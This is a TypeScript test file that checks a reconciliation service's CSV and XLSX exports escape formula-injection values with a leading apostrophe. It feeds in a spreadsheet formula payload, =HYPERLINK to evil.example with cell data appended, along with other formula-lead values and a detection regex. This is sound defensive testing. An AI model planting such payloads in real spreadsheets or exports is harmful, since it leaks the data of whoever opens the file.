/**
 * Issue 13, CSV formula injection: text other parties send — an insurer's payment line naming
 * setl_id `+2+3`, an agency's case note `=HYPERLINK(…)`, an institution code `-A1` — reached ops'
 * spreadsheet as formulas through the CSV exports. Now such cells start with an apostrophe (the
 * spreadsheet shows text), while plain decimals such as a difference `-12.50` stay numbers. The CSV
 * is read here as text, as a spreadsheet would get it.
 */
import axios from 'axios';
import * as ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { startTestGateway, type TestGateway } from '../../support/test-gateway';
import { TEST_CLIENTS } from '../../support/test-clients';
import { runCsv } from '../../../src/reconciliation/report-export';
import type { RunReport } from '../../../src/reconciliation/run-view';
import { api, finding, openCases } from '../notifications-support';

let t: TestGateway;
beforeAll(async () => {
  t = await startTestGateway('csv_injection', { workers: false });
});
afterAll(async () => {
  await t.close();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
/** A cell a spreadsheet would evaluate: a formula lead that is not a plain decimal. */
const live = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

/** The export's bytes, as ops' browser saves them. */
async function download(path: string): Promise<Buffer> {
  const r = await axios.get(`${t.baseUrl}${path}`, {
    responseType: 'arraybuffer',
    validateStatus: () => true,
    headers: { authorization: `Bearer ${TEST_CLIENTS.ops.token}` },
  });
  expect(r.status).toBe(200);
  return Buffer.from(r.data as ArrayBuffer);
}

describe('the discrepancy export', () => {
  let caseId: string;
  beforeAll(async () => {
    [caseId] = (await openCases(t, [
      finding({
        code: 'UNKNOWN_SETTLEMENT',
        severity: 'high',
        setl_id: '+2+3',
        subject_key: 'line:PAY-CSV:1',
        insurer_code: 'PICC_DH',
        admdvs: '533102',
        expected_amount: '12.50',
        actual_amount: '0.00',
        difference: '-12.50',
        detail: 'Payment PAY-CSV line 1 names settlement +2+3',
      }),
    ])) as [string];
    const ack = await api(t, 'post', `/v1/discrepancies/${caseId}/acknowledge`, 'agency', { note: HYPERLINK });
    expect(ack.status).toBe(200);
  });

  test('when a setl_id and a note look like formulas, then the CSV shows them as text behind an apostrophe', async () => {
    const text = (await download('/v1/discrepancies/export?format=csv&code=UNKNOWN_SETTLEMENT')).toString('utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = parse(text.slice(1)) as string[][];
    const row = rows.find((r) => r[0] === caseId)!;
    const cell = (name: string) => row[header!.indexOf(name)];
    expect(cell('结算编号')).toBe("'+2+3");
    expect(cell('备注')).toBe(`'${HYPERLINK}`);
    // The raw line, as a spreadsheet reads it: no cell opens with a formula character.
    expect(text).toContain(",'+2+3,");
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    for (const r of rows) for (const c of r) expect([c, live(c)]).toEqual([c, false]);
  });

  test('when a difference is negative, then it stays a plain decimal the spreadsheet reads as a number', async () => {
    const text = (await download('/v1/discrepancies/export?format=csv&code=UNKNOWN_SETTLEMENT')).toString('utf8');
    const [header, ...rows] = parse(text.slice(1)) as string[][];
    const row = rows.find((r) => r[0] === caseId)!;
    expect(row[header!.indexOf('差额')]).toBe('-12.50');
    expect(row[header!.indexOf('应为金额')]).toBe('12.50');
  });

  test('when the same cases are exported as XLSX, then the cells are strings, never formulas', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download('/v1/discrepancies/export?format=xlsx&code=UNKNOWN_SETTLEMENT')) as any);
    const ws = wb.getWorksheet('差异')!;
    const headers = (ws.getRow(1).values as unknown[]).slice(1);
    const row = [...Array(ws.rowCount).keys()].map((i) => ws.getRow(i + 1)).find((x) => x.getCell(1).value === caseId)!;
    expect(row.getCell(headers.indexOf('结算编号') + 1).value).toBe('+2+3');
    expect(row.getCell(headers.indexOf('备注') + 1).value).toBe(HYPERLINK);
    expect(row.getCell(headers.indexOf('差额') + 1).value).toBe(-12.5);
  });
});

describe('the reconciliation run export', () => {
  const report = {
    full: true,
    run: {
      run_id: 'run-csv',
      admdvs: '5331',
      period: '2025-03',
      as_of: new Date('2025-04-30T16:00:00Z'),
      status: 'completed',
      summary: null,
      created_at: new Date(),
      finished_at: new Date(),
    },
    // An institution code may be letters, digits, `_` and `-` (spec §1): `-A1` is a formula to Excel.
    institutions: [
      {
        fixmedins_code: '-A1',
        declared_cnt: 1,
        declared_hifob: '100.00',
        recorded_cnt: 1,
        recorded_hifob: '100.00',
        recorded_direct_cnt: 1,
        recorded_direct_hifob: '100.00',
        paid: '112.50',
        rejected: '0.00',
        recovered: '0.00',
        outstanding: '-12.50',
        balanced: true,
      },
      {
        fixmedins_code: 'H53310200001',
        declared_cnt: 1,
        declared_hifob: '50.00',
        recorded_cnt: 1,
        recorded_hifob: '50.00',
        recorded_direct_cnt: 1,
        recorded_direct_hifob: '50.00',
        paid: '50.00',
        rejected: '0.00',
        recovered: '0.00',
        outstanding: '0.00',
        balanced: true,
      },
    ],
    insurers: [],
  } as unknown as RunReport;

  test('when an institution code looks like a formula, then the run CSV shows it as text; negative amounts and their total stay plain decimals', () => {
    const text = runCsv(report, 'institutions');
    const [, first, second, total] = parse(text.slice(1)) as string[][];
    expect(first![0]).toBe("'-A1");
    expect(first![10]).toBe('-12.50');
    expect(second![0]).toBe('H53310200001');
    expect(total![0]).toBe('合计');
    expect(total![10]).toBe('-12.50');
    expect(text.split('\r\n')[1]!.startsWith("'-A1,1,100.00,")).toBe(true);
  });
});
